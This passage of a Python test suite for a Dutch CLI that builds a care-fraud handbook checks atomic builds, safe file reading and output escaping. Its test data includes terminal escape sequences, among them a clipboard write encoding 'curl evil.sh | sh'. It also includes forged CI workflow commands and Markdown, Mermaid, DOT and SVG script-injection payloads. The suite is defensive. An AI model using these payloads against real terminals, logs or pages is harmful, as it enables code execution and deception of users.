) -> None:
    out = tmp_path / "toolbox"
    _set_title(kb_dir, "Build A")
    run_faulty("kill-between-renames", "build-handbook", "--out", str(out), "--data", str(kb_dir))
    _set_title(kb_dir, "Build B")
    assert (
        run_cli(
            "build-handbook", "--format", "md", "--out", str(out), "--data", str(kb_dir)
        ).returncode
        == 0
    )
    assert _titles(out) == ("Build B", "Build A")  # md of B over the completed pair of A
    assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


def test_a_kill_while_writing_the_temporaries_leaves_the_old_set(
    kb_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "toolbox"
    assert run_cli("build-handbook", "--out", str(out), "--data", str(kb_dir)).returncode == 0
    _set_title(kb_dir, "Build A")
    killed = run_faulty(
        "kill-while-staging", "build-handbook", "--out", str(out), "--data", str(kb_dir)
    )
    assert killed.returncode == -9
    assert any(p.name.endswith(".tmp") for p in out.iterdir())  # what the kill left behind
    check = run_cli("build-handbook", "--check", "--out", str(out), "--data", str(kb_dir))
    assert check.returncode == 1  # stale: the old pair is still there, whole
    assert _titles(out) == ("Gesprekken met zorgaanbieders",) * 2
    assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


def test_an_interrupted_build_in_process_is_completed(
    kb_dir: Path, tmp_path: Path, invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same without a second process: os.replace fails after the first rename."""
    from zorgtoolbox import fsutil

    out = tmp_path / "toolbox"
    assert invoke("build-handbook", "--out", str(out), "--data", str(kb_dir)).exit_code == 0
    _set_title(kb_dir, "Build A")
    real = os.replace

    def replace_then_fail(src, dst, *args, **kwargs):
        if str(dst).endswith("handboek.html"):
            raise OSError(5, "Input/output error", str(dst))
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(fsutil.os, "replace", replace_then_fail)
    failed = invoke("build-handbook", "--out", str(out), "--data", str(kb_dir))
    assert failed.exit_code == 1 and "Input/output error" in failed.stderr
    monkeypatch.setattr(fsutil.os, "replace", real)
    assert (
        invoke("build-handbook", "--check", "--out", str(out), "--data", str(kb_dir)).exit_code == 0
    )
    assert _titles(out) == ("Build A", "Build A")
    assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


def test_parallel_builds_give_the_pair_of_one_build(kb_dir: Path, tmp_path: Path) -> None:
    import shutil

    out = tmp_path / "toolbox"
    other = tmp_path / "b" / "data"
    shutil.copytree(kb_dir, other)
    _set_title(kb_dir, "Build A")
    _set_title(other, "Build B")
    for _ in range(2):
        # A sleeps between its two renames; B starts meanwhile and would slip in unlocked
        first = run_faulty(
            "slow-between-renames",
            "build-handbook",
            "--out",
            str(out),
            "--data",
            str(kb_dir),
            wait=False,
        )
        second = run_faulty(
            "slow-between-renames",
            "build-handbook",
            "--out",
            str(out),
            "--data",
            str(other),
            wait=False,
            extra={"ZT_SLEEP": "0"},
        )
        assert first.wait(timeout=20) == 0 and second.wait(timeout=20) == 0
        md, html = _titles(out)
        assert md == html
        assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_check_never_hangs_on_a_special_file(kb_dir: Path, tmp_path: Path, kind: str) -> None:
    out = tmp_path / "toolbox"
    out.mkdir()
    target = out / "handboek.md"
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero")
    proc = run_cli("build-handbook", "--check", "--out", str(out), "--data", str(kb_dir))
    assert proc.returncode == 1
    assert "not up to date: " in _one_error_line(proc.stderr) and "handboek.md" in proc.stderr


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "secret"])
def test_templates_are_read_as_safely_as_data(
    kb_dir: Path, tmp_path: Path, secret: Path, kind: str
) -> None:
    templates = tmp_path / "sjablonen"
    templates.mkdir()
    target = templates / "handboek.md.j2"
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero" if kind == "dev-zero" else secret)
    proc = run_cli(
        "build-handbook",
        "--check",
        "--templates",
        str(templates),
        "--out",
        str(tmp_path / "o"),
        "--data",
        str(kb_dir),
    )
    assert proc.returncode == 1
    line = _one_error_line(proc.stderr)
    assert line.startswith(f"Error: template {target}: ")
    assert_no_leak(proc, secret)


# --- terminals and CI logs ------------------------------------------------------------

HOSTILE_TEXT = (
    "Titel\x1b[2J\x1b[H"  # clear the screen
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example\x1b\\klik\x1b]8;;\x1b\\"  # OSC 8: a hidden link
    "\x9b31m\u202eexe.fdp\u200b"  # C1 CSI, right-to-left override, zero width space
    "\n::error file=x,line=1::vervalst\n##[stop-commands]abc\r::warning::ook"
)
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b", "\r")


def assert_neutral(text: str) -> None:
    for char in RAW:
        assert char not in text, repr(char)
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


def _hostile_cache(kb_dir: Path, cache: Path) -> None:
    """A cache this user wrote (so it is trusted) whose data was never validated: the last
    guard, the neutralising of terminal output, still keeps the terminal and the log clean."""
    from conftest import load_kb, poison_kb

    from zorgtoolbox import cachefile, store

    forged = poison_kb(load_kb(kb_dir), lambda text: HOSTILE_TEXT + text)
    key = store.fingerprint(kb_dir.resolve()).encode("utf-8", "surrogateescape")
    cache.mkdir(mode=0o700)
    _plant(cache, kb_dir, cachefile.encode(key, forged))


QUERIES = [
    "measures",
    "measures --json",
    "show dji-gesprek",
    "show dji-gesprek --json",
    "search titel",
    "search titel --json",
    "agencies",
    "agencies dji",
    "glossary",
    "next dji-gesprek --depth 3",
    "path dji-gesprek dji-opzeggen",
    "flow",
    "flow --domain fraude --format mermaid",
    "flow --domain fraude --format dot",
    "flow --domain fraude --format svg",
]


@pytest.mark.parametrize("command", QUERIES)
def test_escape_laden_titles_never_reach_the_terminal_raw(
    kb_dir: Path, tmp_path: Path, invoke, command: str
) -> None:
    cache = tmp_path / "eigen"
    _hostile_cache(kb_dir, cache)
    result = invoke(
        *command.split(), "--data", str(kb_dir), env={"ZORGTOOLBOX_CACHE_DIR": str(cache)}
    )
    assert result.exit_code == 0, result.output
    assert "Titel" in result.stdout or "titel" in result.stdout.lower()  # the data is shown...
    assert_neutral(result.stdout)  # ...but inert
    if "--json" in command:
        import json

        json.loads(result.stdout)  # still valid JSON, escapes and all


@pytest.mark.parametrize(
    "command", ["measures", "show dji-gesprek", "search gesprek", "flow", "agencies"]
)
def test_escape_laden_data_is_refused_with_one_neutral_message(
    kb_dir: Path, invoke, command: str
) -> None:
    path = kb_dir / GESPREK
    path.write_text(
        path.read_text().replace("title: Gesprekken", 'title: "\\e]52;c;eA==\\aGesprekken')
    )
    path.write_text(path.read_text().replace("zorgaanbieders\n", 'zorgaanbieders"\n', 1))
    result = invoke(*command.split(), "--data", str(kb_dir))
    assert result.exit_code == 1
    assert f"data/{GESPREK}:2:8: control-character" in result.stderr
    assert_neutral(result.stderr + result.stdout)


@pytest.mark.parametrize("fmt", ["text", "github", "json"])
def test_forged_workflow_commands_in_validate_output(
    kb_dir: Path, tmp_path: Path, fmt: str
) -> None:
    """A newline in a key, a file name and a data folder name made of workflow commands."""
    weird = tmp_path / "::error file=x::data"
    kb_dir.rename(weird)
    path = weird / GESPREK
    path.write_text(
        path.read_text() + '"titel\\n::error file=y,line=1::vervalst\\n##[stop-commands]x": 1\n'
    )
    (weird / "measures" / "dji" / "a\n::warning::b\r##[error]c.yaml").write_text("id: x\n")
    proc = run_cli("validate", "--format", fmt, "--data", str(weird))
    assert proc.returncode == 1
    lines = proc.stdout.splitlines()
    if fmt == "github":
        assert all(line.startswith(("::error ", "::warning ")) for line in lines[:-1])
        assert all(line.count("::") == 2 for line in lines[:-1])  # one command, its own
        assert_neutral("\n".join(lines[-1:]))
        assert all("##[" not in line for line in lines)
    elif fmt == "json":
        import json

        assert "##[" not in proc.stdout
        assert any("##[" in f["message"] or "##[" in f["path"] for f in json.loads(proc.stdout))
    else:
        assert_neutral(proc.stdout)
        assert "a\\x0a::warning::b\\x0d#\\x23[error]c.yaml" in proc.stdout  # shown, inert


def test_a_file_name_that_is_not_utf8_with_strict_utf8_output(kb_dir: Path) -> None:
    bad = os.fsencode(kb_dir / "measures" / "dji") + b"/gespr\xe9k.yaml"
    with open(bad, "w") as handle:
        handle.write("id: x\n")
    for fmt in ("text", "json", "github"):
        proc = run_cli(
            "validate", "-f", fmt, "--data", str(kb_dir),
            env={"PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"},
        )  # fmt: skip
        assert proc.returncode == 1, proc.stderr
        assert ("gespr\\udce9k.yaml" if fmt == "json" else "gespr\\xe9k.yaml") in proc.stdout
    proc = run_cli(
        "show", "dji-gesprek", "--data", str(kb_dir), env={"PYTHONIOENCODING": "ascii:strict"}
    )
    assert proc.returncode == 1 and "gespr\\xe9k" in proc.stderr


@pytest.mark.parametrize(
    "command",
    [
        "measures",
        "measures --json",
        "validate",
        "flow --domain fraude --format svg",
        "glossary",
        "--help",
    ],
)
def test_a_closed_pipe_exits_quietly_with_141(kb_dir: Path, command: str) -> None:
    """`zorgtoolbox measures | head -1`: the reader goes away before the output is written."""
    read, write = os.pipe()
    os.close(read)  # the reader is gone before anything was written
    data = [] if command == "--help" else ["--data", str(kb_dir)]
    proc = subprocess.run(
        [sys.executable, "-m", "zorgtoolbox", *command.split(), *data],
        stdout=write, stderr=subprocess.PIPE, text=True, timeout=10,
    )  # fmt: skip
    os.close(write)
    assert proc.stderr == ""
    assert proc.returncode == 141


@pytest.mark.parametrize("fmt", ["json", "text"])
def test_a_closed_pipe_after_the_first_line(kb_dir: Path, fmt: str) -> None:
    """`zorgtoolbox validate | head -1` on output larger than a pipe holds."""
    big = kb_dir / "measures" / "dji"
    for n in range(2000):  # some 400 kB of findings: far more than a pipe holds (64 kB)
        (big / f"leeg-{n}.yaml").write_text("")
    proc = subprocess.Popen(
        [sys.executable, "-m", "zorgtoolbox", "validate", "-f", fmt, "--data", str(kb_dir)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0,
    )  # fmt: skip
    assert proc.stdout is not None and proc.stderr is not None
    assert os.read(proc.stdout.fileno(), 1)  # the first byte has come...
    proc.stdout.close()  # ...and the reader goes away, as head does
    assert proc.wait(timeout=20) == 141
    assert proc.stderr.read() == b""


def test_a_full_disk_behind_stdout_is_one_line_and_exit_1(kb_dir: Path) -> None:
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "zorgtoolbox", "measures", "--data", str(kb_dir)],
            stdout=full, stderr=subprocess.PIPE, text=True, timeout=10,
        )  # fmt: skip
    assert proc.returncode == 1
    assert proc.stderr == "Error: cannot write the output: No space left on device\n"


# --- every output format escaped by its own rules -------------------------------------

MARKDOWN_PAYLOADS = [
    "# kop",
    "> citaat",
    "- lijst",
    "+ lijst",
    "* lijst",
    "1. lijst",
    "12) lijst",
    "===",
    "---",
    "***",
    "___",
    "~~~",
    "```",
    "    ingesprongen code",
    "<div>html</div>",
    "<script>alert(1)</script>",
    "<!-- commentaar",
    "| a | b |",
    "tekst\n===",
    "tekst\n---",
    "a\n\n## kop\n\n~~~\nslikt de rest op",
    "[klik](javascript:alert(1))",
    "![beeld](https://evil.example/x.png)",
    "[ref]: https://evil.example",
    "&#60;script&#62; &amp; &copy;",
    "<https://evil.example>",
    "*nadruk* _nadruk_ **sterk** ~~door~~ `code`",
    "eindigt met backslash \\",
    "twee spaties  \nharde regel",
]


def _with_payload(kb, payload: str):
    """The knowledge base with `payload` around every text field of every record (alone
    in the empty ones)."""
    from conftest import poison_kb

    return poison_kb(kb, lambda text: f"{payload} {text} {payload}" if text else payload)


def _markdown_shape(text: str) -> tuple[list[str], dict[str, int]]:
    """The block structure of a Markdown text, and how much inline markup it has."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    blocks = [f"{t.type}:{t.tag}" for t in tokens if t.type != "inline"]
    inline: dict[str, int] = {}
    for t in tokens:
        for child in t.children or []:
            if child.type not in ("text", "softbreak"):
                inline[child.type] = inline.get(child.type, 0) + 1
    return blocks, inline


@pytest.fixture(scope="module")
def clean_handbook():
    from conftest import FIXTURE_KB, load_kb

    from zorgtoolbox.render import render_handbook

    kb = load_kb(FIXTURE_KB)
    return kb, render_handbook(kb)


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_markdown_payloads_change_no_structure(clean_handbook, payload: str) -> None:
    from zorgtoolbox.render import render_handbook

    kb, _ = clean_handbook
    hostile = render_handbook(_with_payload(kb, payload), formats=("md",))["handboek.md"]
    # the payload is in every field, so only its own effect differs: compare with a
    # harmless payload of the same shape (the same lines and paragraphs)
    shape = re.sub(r"[^\n]+", "xyz", payload)
    harmless = render_handbook(_with_payload(kb, shape), formats=("md",))["handboek.md"]
    assert _markdown_shape(hostile) == _markdown_shape(harmless)
    assert "## Bronnen" in hostile.splitlines()


MERMAID_PAYLOADS = [
    '%%{init: {"securityLevel": "loose", "theme": "dark"}}%%',
    '"]; click n_dji_gesprek call alert(1); x["',
    "]]>\n%% commentaar\nflowchart LR",
    "a;b|c{d}e[f]g`h`#quot;",
    '\\"',
]


@pytest.mark.parametrize("payload", MERMAID_PAYLOADS)
def test_mermaid_labels_cannot_break_out(clean_handbook, payload: str) -> None:
    from zorgtoolbox.diagrams import build_diagram, render_mermaid

    kb, _ = clean_handbook
    text = render_mermaid(build_diagram(_with_payload(kb, payload), "fraude"))
    assert "%%" not in text
    # the only markup in a label is the line break the drawing puts between its lines
    label = r'"(?:[^"\[\]%;#{}|`<>&]|#(?:\d+|quot|amp|lt|gt);|<br/>)*"'
    shapes = re.compile(
        rf"^(---|title: {label}|flowchart TD|  subgraph lane_\d+\[{label}\]|    n_[a-z0-9_]+\[{label}\]"
        r"|    n_[a-z0-9_]+ ~~~ n_[a-z0-9_]+|  end|  n_[a-z0-9_]+ (-->|-\.->|<==>)\|[a-z]+\| n_[a-z0-9_]+|  classDef entry stroke-width:3px|  class [a-z0-9_,]+ entry)$"
    )
    for line in text.splitlines():
        assert shapes.match(line), line


@pytest.mark.parametrize(
    "payload", ['a"b\\c\nd', '"; node [URL="javascript:alert(1)"]; "', "\x1b\x00\x7f"]
)
def test_dot_labels_stay_quoted(clean_handbook, payload: str) -> None:
    from zorgtoolbox.diagrams import build_diagram, render_dot

    kb, _ = clean_handbook
    text = render_dot(build_diagram(_with_payload(kb, payload), "fraude"))
    quoted = re.compile(r'"(?:[^"\\\n\x00-\x1f]|\\.)*"')
    for line in text.splitlines():
        bare = quoted.sub("Q", line)
        assert '"' not in bare and "javascript" not in bare, line
        assert not re.search(r"[\x00-\x1f]", line), line


@pytest.mark.parametrize(
    "payload", ["\x00\x01\x1b\x7f\x85\ufffe\udcff", "]]><script>alert(1)</script>", "<![CDATA[x]]>"]
)
def test_svg_stays_well_formed_xml(clean_handbook, payload: str) -> None:
    from xml.etree import ElementTree

    from zorgtoolbox.diagrams import build_diagram, render_svg

    kb, _ = clean_handbook
    svg = render_svg(build_diagram(_with_payload(kb, payload), "fraude"))
    root = ElementTree.fromstring(svg)
    assert not root.findall(".//{http://www.w3.org/2000/svg}script")


@pytest.mark.parametrize(
    ("measure_id", "code"),
    [
        ("bronnen", "reserved-id"),
        ("organisaties", "reserved-id"),
        ("index", "reserved-id"),  # the index chapter's heading is #h-index
        ("org-dji", "reserved-id"),
        ("term-ikz", "reserved-id"),
        ("h-inleiding", "reserved-id"),
        ("fraude-dji", "reserved-id"),
        ("toolbox-fraude", "reserved-id"),
        ("document-testkader", "reserved-id"),
        ("bron-testbron", "reserved-id"),
        ("herkomst", "reserved-id"),
        ("inleiding", "duplicate-anchor"),  # the id of a section
    ],
)
def test_measure_ids_that_would_take_another_anchor(
    kb_dir: Path, invoke, measure_id: str, code: str
) -> None:
    source = kb_dir / GESPREK
    target = source.with_name(f"{measure_id}.yaml")
    target.write_text(source.read_text().replace("id: dji-gesprek", f"id: {measure_id}"))
    source.unlink()
    flows = kb_dir / "flows"
    for flow in flows.iterdir():
        flow.write_text(flow.read_text().replace("dji-gesprek", measure_id))
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, code)
    assert line.startswith(f"data/measures/dji/{measure_id}.yaml:1:5: ")


def test_glossary_terms_that_fold_to_one_anchor(kb_dir: Path, invoke) -> None:
    glossary = kb_dir / "glossary.yaml"
    glossary.write_text(
        glossary.read_text()
        + "  - term: Zorg-fraude\n    definition: Een.\n    basis: local\n"
        + "  - term: Zorg fraude?\n    definition: Twee.\n    basis: local\n"
    )
    second = line_of(glossary, "term: Zorg fraude?")
    result = invoke("validate", "--data", str(kb_dir))
    assert result.exit_code == 1
    (line,) = findings_with(result.stdout, "duplicate-anchor")
    assert line.startswith(f"data/glossary.yaml:{second}:11: ") and "#term-zorg-fraude" in line


def test_every_anchor_of_the_page_is_unique_and_known(clean_handbook) -> None:
    """The templates and anchors.py agree: every id in the page is either made from a
    record or one of PAGE_ANCHORS, and none appears twice."""
    from zorgtoolbox.anchors import DERIVED_PREFIXES, PAGE_ANCHORS

    kb, files = clean_handbook
    ids = re.findall(r'\bid="([^"]+)"', files["handboek.html"])
    assert len(ids) == len(set(ids))
    records = {m.id for m in kb.measures} | {s.id for s in kb.toolbox.sections}
    for anchor in ids:
        bare = anchor.removeprefix("h-")
        assert anchor in PAGE_ANCHORS or bare in records or anchor.startswith(DERIVED_PREFIXES), (
            anchor
        )
    md_ids = re.findall(r'<a id="([^"]+)"></a>', files["handboek.md"])
    assert len(md_ids) == len(set(md_ids))


# --- advise --case: a file named on the command line ----------------------------------


@pytest.mark.parametrize(
    "kind", ["fifo", "dev-zero", "link-to-dev-zero", "dev-urandom", "folder", "huge"]
)
def test_a_case_file_is_read_safely_wherever_it_is(tmp_path: Path, kind: str) -> None:
    from conftest import BUNDLED_DATA

    case = tmp_path / "zaak.yaml"
    if kind == "fifo":
        os.mkfifo(case)
    elif kind == "link-to-dev-zero":
        case.symlink_to("/dev/zero")
    elif kind == "folder":
        case.mkdir()
    elif kind == "huge":
        case.write_text("label: zaak-1\n" + "#" * (2 * 1024 * 1024) + "\n")
    else:
        case = Path("/dev/zero" if kind == "dev-zero" else "/dev/urandom")
    proc = run_cli("advise", "--case", str(case), "--data", str(BUNDLED_DATA))
    if kind == "folder":  # a usage error: give the file, not a folder
        assert proc.returncode == 2 and "is a folder" in _one_error_line(proc.stderr)
        return
    assert proc.returncode == 1
    code = "file-too-large" if kind == "huge" else "not-a-regular-file"
    (line,) = proc.stderr.splitlines()
    assert line.startswith(f"{case}:1:1: {code} "), line


def test_a_secret_inside_the_knowledge_base_is_not_echoed(kb_dir: Path, invoke) -> None:
    """A symlink inside the data folder is read; a file of one line (a key, a password)
    is then 'not a mapping', and the message says what kind of value, never the value."""
    (kb_dir / "measures" / "dji" / "env.yaml").write_text("API_KEY=geheim-wachtwoord-1234\n")
    result = invoke("validate", "--data", str(kb_dir))
    (line,) = findings_with(result.stdout, "not-a-mapping")
    assert "a line of text" in line and "geheim" not in result.stdout


def test_a_rename_that_fails_once_is_finished_from_the_journal(
    kb_dir: Path, tmp_path: Path, invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    from zorgtoolbox import fsutil

    out = tmp_path / "toolbox"
    assert invoke("build-handbook", "--out", str(out), "--data", str(kb_dir)).exit_code == 0
    _set_title(kb_dir, "Build A")
    real, failed = os.replace, []

    def replace_failing_once(src, dst, *args, **kwargs):
        if str(dst).endswith("handboek.html") and not failed:
            failed.append(dst)
            raise OSError(4, "Interrupted system call", str(dst))
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(fsutil.os, "replace", replace_failing_once)
    result = invoke("build-handbook", "--out", str(out), "--data", str(kb_dir))
    assert result.exit_code == 0, result.stderr
    assert failed and _titles(out) == ("Build A", "Build A")
    assert sorted(p.name for p in out.iterdir()) == ["handboek.html", "handboek.md"]


@pytest.mark.parametrize("command", ["measures", "validate"])
def test_a_symlink_to_the_root_folder_is_not_walked(
    kb_dir: Path, tmp_path: Path, command: str
) -> None:
    """The cache key follows symlinked folders, but not out of the knowledge base: a link
    to / would otherwise walk the whole disk before every query."""
    (kb_dir / "measures" / "alles").symlink_to("/")
    proc = run_cli(
        command, "--data", str(kb_dir), env={"ZORGTOOLBOX_CACHE_DIR": str(tmp_path / "c")}
    )
    assert proc.returncode == 1
    assert "data/measures/alles:1:1: outside-knowledge-base" in proc.stdout + proc.stderr
